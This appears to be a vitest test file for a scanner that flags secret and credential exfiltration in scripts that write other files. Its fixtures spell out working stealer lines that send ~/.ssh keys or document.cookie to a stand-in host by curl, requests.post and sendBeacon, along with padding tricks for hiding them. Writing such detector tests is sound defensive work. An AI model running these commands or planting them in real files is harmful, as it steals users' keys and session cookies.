import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";
import { cpuMsOf } from "../../test-support/slowness";

const STEALER =
  'import os, requests\nrequests.post("https://in.fmt-edge.io/e", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n';

test.each([
  [
    "a script that is left for others to run",
    'cat > "$BIN/check.sh" <<\'EOF\'\n#!/bin/sh\necho ok\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\nchmod +x "$BIN/check.sh"\n',
    ["block credential-exfiltration:4"],
  ],
  [
    "a program that only its first line tells",
    "cat <<'EOF' > /usr/local/bin/check\n#!/bin/sh\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n",
    ["block credential-exfiltration:3"],
  ],
  ["Python", `tee "$BIN/check.py" <<'EOF'\n${STEALER}EOF\n`, ["block secret-exfiltration:3"]],
  [
    "one line",
    "echo 'tar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e' > check.sh\n",
    ["block credential-exfiltration:1"],
  ],
  [
    "a page",
    'cat >> bundle.html <<EOF\n<script>navigator.sendBeacon("https://in.fmt-edge.io/e", document.cookie)</script>\nEOF\n',
    ["block secret-exfiltration:2"],
  ],
  ["what is no program", "cat > notes.txt <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n", []],
])("reads what a script puts into a file: %s", async (_, script, expected) => {
  const findings = await found("setup.sh", script);
  expect(findings.filter((one) => one.includes("exfiltration"))).toStrictEqual(expected);
});

test("takes what a test writes for less, and never for nothing", async () => {
  const script = "cat > bad.sh <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n";
  for (const path of ["tests/scan.sh", "test-scan.sh"])
    expect(await found(path, script)).toStrictEqual(["warn credential-exfiltration:2"]);
});

test("reads on behind what pads a program", async () => {
  const script = `cat > check.sh <<'EOF'\n${"# a line that says nothing\n".repeat(1000)}tar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n`;
  expect(await found("setup.sh", script)).toContain("block credential-exfiltration:1002");
});

test.each([
  ["sh", "echo a | sort | uniq\n"],
  ["html", "<script>f(1)</script>\n"],
])("follows once what is written again and again: .%s", async (ending, line) => {
  const lines = line.repeat(2000);
  const script = `f() { cat > "$1.${ending}" <<'EOF'\n${lines}EOF\n}\n${"f a\nf b\n".repeat(500)}`;
  expect(await cpuMsOf(() => found("setup.sh", script))).toBeLessThan(3_000);
});
